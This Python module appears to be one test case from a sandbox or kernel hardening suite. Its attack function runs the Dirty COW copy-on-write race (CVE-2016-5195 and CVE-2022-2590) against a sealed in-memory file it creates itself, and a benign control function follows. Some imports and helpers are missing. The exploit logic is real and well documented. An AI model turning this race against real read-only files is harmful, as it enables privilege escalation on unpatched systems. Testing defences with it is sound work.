"""Win a race against copy on write.

Technique: Dirty COW, CVE-2016-5195, and its kin CVE-2022-2590: one thread writes to a private mapping of a read-only file through
    /proc/self/mem, another throws the copy away; a write that falls in between reaches the file. The target is a sealed file of one's
    own, and the race is short. Only a mended kernel stops it.
Success: the file changes.
Stopped by: root_filesystem
"""
import fcntl
import mmap
import threading
import time

SECONDS = 0.5


def attack():
    target = os.memfd_create("sealed", os.MFD_ALLOW_SEALING)
    os.write(target, b"original".ljust(4096))
    fcntl.fcntl(target, 1033, 2 | 4 | 8)
    libc.mmap.restype = ctypes.c_void_p
    page = libc.mmap(None, ctypes.c_size_t(4096), mmap.PROT_READ, mmap.MAP_PRIVATE, target, ctypes.c_long(0))
    memory = os.open("/proc/self/mem", os.O_RDWR)
    until = time.monotonic() + SECONDS

    def throw_away():
        while time.monotonic() < until:
            libc.madvise(ctypes.c_void_p(page), ctypes.c_size_t(4096), mmap.MADV_DONTNEED)

    thread = threading.Thread(target=throw_away)
    thread.start()
    after, written = b"original", 0
    while time.monotonic() < until and after == b"original":
        # EIO: a kernel that lets nobody write past a mapping's rights, whoever asks.
        written += answer(os.pwrite, memory, b"CHANGED!", page) == 8
        after = os.pread(target, 8, 0)
    thread.join()
    return after != b"original" and f"after {written} writes the file begins with {after}"


def twin():
    """A private mapping of a file may be changed, and the file stays as it is."""
    with open("/work/file", "w+b") as file:
        file.write(b"original".ljust(4096))
        file.flush()
        with mmap.mmap(file.fileno(), 4096, access=mmap.ACCESS_COPY) as copy:
            copy[:7] = b"CHANGED"
            assert copy[:7] == b"CHANGED"
        file.seek(0)
        assert file.read(8) == b"original"
